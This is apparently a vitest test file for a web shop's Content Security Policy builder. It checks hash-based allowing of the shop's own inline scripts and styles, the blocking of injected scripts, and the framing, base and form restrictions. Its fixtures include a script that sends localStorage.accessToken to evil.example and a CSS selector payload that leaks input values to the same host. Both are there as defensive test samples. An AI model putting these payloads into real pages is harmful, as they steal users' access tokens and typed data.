import { createHash } from "node:crypto";
import { expect, test } from "vitest";
import { noOrigins } from "../../kernel/payment-origins.ts";
import { ownInlineOf, policyFor } from "./content-security-policy.server.ts";
import { cutPage } from "./rendered-page.ts";

const ownScript = "document.documentElement.dataset.theme = 'dark'";
const foreign = "fetch('https://evil.example/' + localStorage.accessToken)";
const ownStyle = "body{color:#111}";
const foreignStyle = "input[value^=a]{background:url(https://evil.example/a)}";
const origins = { images: ["https://pictures.example"], payment: noOrigins };
const page = `<html><style id="theme">${ownStyle}</style><style>${foreignStyle}</style><script>${ownScript}</script><script>${foreign}</script><script src="/a.js"></script></html>`;

function hashOf(script: string): string {
	return `'sha256-${createHash("sha256").update(script).digest("base64")}'`;
}

const ownInline = ownInlineOf(cutPage(`<script>${ownScript}</script>`), ownStyle);

function directive(name: string, html = page): string[] {
	const policy = policyFor(cutPage(html), ownInline, origins).split("; ");
	return (
		policy
			.find((entry) => entry.startsWith(`${name} `))
			?.split(" ")
			.slice(1) ?? []
	);
}

test("only the shop's own inline scripts and style count, by their hashes", () => {
	expect(directive("script-src")).toEqual(["'self'", hashOf(ownScript)]);
	expect(directive("style-src")).toEqual(["'self'", hashOf(ownStyle)]);
});

test("a script in a page's content is not allowed, whatever it looks like", () => {
	const stream = "window.__reactRouterContext.streamController";
	const data = `${stream}.enqueue("[]");${stream}.close();`;
	const withData = (before: string, after: string) =>
		`<html><body><main>${before}</main><footer></footer>${after}</body></html>`;
	const script = `<script>${data}</script>`;
	expect(directive("script-src", withData("", script))).toEqual(["'self'", hashOf(data)]);
	expect(directive("script-src", withData(script, ""))).toEqual(["'self'"]);
});

test("a page may fetch ahead from the shop; nothing else goes by what holds for kinds that are not named", () => {
	expect(directive("default-src")).toEqual(["'self'"]);
	// CSP Level 3 §6.1: what falls back to default-src; child-src is asked where frame-src and worker-src are not named.
	for (const kind of [
		"connect",
		"font",
		"frame",
		"img",
		"manifest",
		"media",
		"object",
		"script",
		"style",
		"worker",
	])
		expect(directive(`${kind}-src`), kind).not.toEqual([]);
	for (const kind of ["media", "object", "worker"])
		expect(directive(`${kind}-src`)).toEqual(["'none'"]);
});

test("nobody puts the shop into a frame, moves its base or sends its forms elsewhere", () => {
	expect(directive("frame-ancestors")).toEqual(["'none'"]);
	expect(directive("base-uri")).toEqual(["'none'"]);
	expect(directive("form-action")).toEqual(["'self'"]);
	expect(directive("object-src")).toEqual(["'none'"]);
	expect(directive("img-src")).toEqual(["'self'", "data:", "https://pictures.example"]);
});
